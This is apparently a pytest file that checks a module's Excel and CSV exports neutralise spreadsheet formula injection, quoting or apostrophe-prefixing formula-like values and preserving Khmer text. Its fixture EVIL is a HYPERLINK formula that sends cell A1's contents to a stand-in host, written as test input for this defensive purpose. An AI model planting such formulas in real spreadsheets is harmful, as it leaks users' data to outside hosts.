"""Downloads that are safe to open: what a spreadsheet would run as a formula stays text."""
from __future__ import annotations

import io

import openpyxl
import pandas as pd

from impact.exports import csv_bytes, excel_bytes

EVIL = '=HYPERLINK("http://x.example/?"&A1,"click")'


def table() -> pd.DataFrame:
    return pd.DataFrame({"value found": [EVIL, "-10", "+855 12", "@SUM(A1)", "Phnom Penh", None],
                         "n": [1, 2, 3, 4, 5, 6], "=header": "x"})


def test_excel_keeps_every_value_as_found_and_as_text():
    wb = openpyxl.load_workbook(io.BytesIO(excel_bytes({"issues": table()})))
    rows = list(wb["issues"].iter_rows())
    assert [c.value for c in rows[0]] == ["value found", "n", "=header"]
    cells = [r[0] for r in rows[1:]]
    assert [c.value for c in cells] == [EVIL, "-10", "+855 12", "@SUM(A1)", "Phnom Penh", None]
    assert [c.quotePrefix for c in cells[:5]] == [True, True, True, True, False]
    assert rows[0][2].data_type == "s" and rows[0][2].quotePrefix
    assert not any(c.data_type == "f" for row in rows for c in row)
    assert [r[1].value for r in rows[1:]] == [1, 2, 3, 4, 5, 6]     # numbers stay numbers


def test_csv_prefixes_formula_text_with_an_apostrophe_and_keeps_khmer_readable():
    frame = table().assign(site=["ភ្នំពេញ"] * 6)
    text = csv_bytes(frame).decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0] == "value found,n,'=header,site"
    assert lines[1].startswith("\"'=HYPERLINK(") and lines[2].startswith("'-10,")
    assert lines[5] == "Phnom Penh,5,x,ភ្នំពេញ" and csv_bytes(frame).startswith(b"\xef\xbb\xbf")
